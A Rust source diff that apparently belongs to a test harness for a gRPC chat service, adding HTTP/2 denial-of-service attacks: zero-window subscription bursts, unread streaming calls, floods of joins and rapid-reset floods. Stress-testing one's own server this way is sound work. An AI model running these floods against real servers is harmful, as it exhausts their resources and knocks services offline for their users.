@@ -1,0 +1,145 @@
+//! Attacks by HTTP/2: a client that answers pings and never opens a window, floods of calls, floods of resets.
+
+use std::future::pending;
+use std::net::Ipv4Addr;
+use std::time::Duration;
+
+use bytes::Bytes;
+use fastrand::Rng;
+use h2::client::{ResponseFuture, SendRequest};
+use http::Request;
+use prost::Message;
+use proto::chat::v1 as pb;
+use proto::helloworld::HelloRequest;
+use tokio::task::JoinSet;
+use tokio::time::timeout;
+
+use super::Target;
+use crate::relay::connect;
+
+/// A step of a connection or a call that is not done by then is given up.
+const STEP_TIMEOUT: Duration = Duration::from_millis(500);
+/// Bursts of subscriptions, and how many are in one: as many as a user may have open.
+const BURSTS: usize = 2;
+const SUBSCRIPTIONS: usize = 16;
+/// The smallest windows: nothing, and the first frame.
+const WINDOWS: [u32; BURSTS] = [0, 30];
+/// Connections with unread streams, and how many streams each has.
+const UNREAD_CONNECTIONS: usize = 4;
+const UNREAD_STREAMS: usize = 100;
+/// Joins of one flood.
+const JOINS: usize = 300;
+/// Calls that are opened and reset by one connection, unless the server ends it before.
+const RESETS: usize = 400;
+
+/// A window of nothing and many subscriptions in one burst.
+pub(super) async fn zero_window(target: &Target, source: Ipv4Addr, tasks: &mut JoinSet<()>) {
+    let message = pb::SubscribeRequest::default();
+    for window in WINDOWS {
+        let Some(mut sender) = handshake(target, source, window, tasks).await else { return };
+        let mut calls = Vec::new();
+        for _ in 0..SUBSCRIPTIONS {
+            calls.extend(call(&mut sender, target, "/chat.v1.ChatService/Subscribe", &message, &[]).await);
+        }
+        hold(sender, calls, tasks);
+    }
+}
+
+/// Very many greetings that nobody takes.
+pub(super) async fn unread(target: &Target, source: Ipv4Addr, tasks: &mut JoinSet<()>) {
+    let message = HelloRequest { name: "Mallory".to_owned() };
+    let endless = [("x-greeter-count", "100000"), ("x-greeter-interval-ms", "0")];
+    for _ in 0..UNREAD_CONNECTIONS {
+        let Some(mut sender) = handshake(target, source, 0, tasks).await else { return };
+        let mut calls = Vec::new();
+        for _ in 0..UNREAD_STREAMS {
+            let method = "/helloworld.Greeter/SayHelloStreamReply";
+            let Some(answer) = call(&mut sender, target, method, &message, &endless).await else { break };
+            calls.push(answer);
+        }
+        hold(sender, calls, tasks);
+    }
+}
+
+/// As many guests as one connection can make.
+pub(super) async fn joins(target: &Target, source: Ipv4Addr, rng: &mut Rng, tasks: &mut JoinSet<()>) {
+    let Some(mut sender) = handshake(target, source, 65_535, tasks).await else { return };
+    let mut calls = Vec::new();
+    for _ in 0..JOINS {
+        let message = pb::JoinRequest { name: format!("Mallory {}", rng.u64(..)), return_token: true };
+        let Some(answer) = call(&mut sender, target, "/chat.v1.ChatService/Join", &message, &[]).await else {
+            break;
+        };
+        calls.push(answer);
+    }
+    hold(sender, calls, tasks);
+}
+
+/// Calls that are taken back as soon as they are made.
+pub(super) async fn resets(target: &Target, source: Ipv4Addr, tasks: &mut JoinSet<()>) {
+    let Some(mut sender) = handshake(target, source, 65_535, tasks).await else { return };
+    let message = pb::ListRoomsRequest {};
+    for _ in 0..RESETS {
+        // Dropping the answer resets the call.
+        let answer = call(&mut sender, target, "/chat.v1.ChatService/ListRooms", &message, &[]).await;
+        if answer.is_none() {
+            return;
+        }
+    }
+    hold(sender, Vec::new(), tasks);
+}
+
+async fn handshake(
+    target: &Target,
+    source: Ipv4Addr,
+    window: u32,
+    tasks: &mut JoinSet<()>,
+) -> Option<SendRequest<Bytes>> {
+    let stream = timeout(STEP_TIMEOUT, connect(source, target.server)).await.ok()?.ok()?;
+    let mut builder = h2::client::Builder::new();
+    builder.initial_window_size(window);
+    let (sender, connection) = timeout(STEP_TIMEOUT, builder.handshake(stream)).await.ok()?.ok()?;
+    tasks.spawn(async {
+        // It answers pings for as long as the server bears it.
+        connection.await.ok();
+    });
+    Some(sender)
+}
+
+async fn call(
+    sender: &mut SendRequest<Bytes>,
+    target: &Target,
+    method: &str,
+    message: &impl Message,
+    headers: &[(&'static str, &'static str)],
+) -> Option<ResponseFuture> {
+    let mut request = Request::post(format!("http://{}{method}", target.server))
+        .header("content-type", "application/grpc")
+        .header("te", "trailers")
+        .header("authorization", &target.authorization);
+    for (name, value) in headers {
+        request = request.header(*name, *value);
+    }
+    let mut ready = timeout(STEP_TIMEOUT, sender.clone().ready()).await.ok()?.ok()?;
+    let (answer, mut body) = ready.send_request(request.body(()).ok()?, false).ok()?;
+    body.send_data(framed(message), true).ok()?;
+    *sender = ready;
+    Some(answer)
+}
+
+/// Keeps the connection and its calls open, and reads nothing.
+fn hold(sender: SendRequest<Bytes>, calls: Vec<ResponseFuture>, tasks: &mut JoinSet<()>) {
+    tasks.spawn(async move {
+        let _held = (sender, calls);
+        pending::<()>().await;
+    });
+}
+
+/// One message as gRPC frames it.
+fn framed(message: &impl Message) -> Bytes {
+    let message = message.encode_to_vec();
+    let mut framed = vec![0];
+    framed.extend(u32::try_from(message.len()).unwrap_or(u32::MAX).to_be_bytes());
+    framed.extend(message);
+    framed.into()
+}
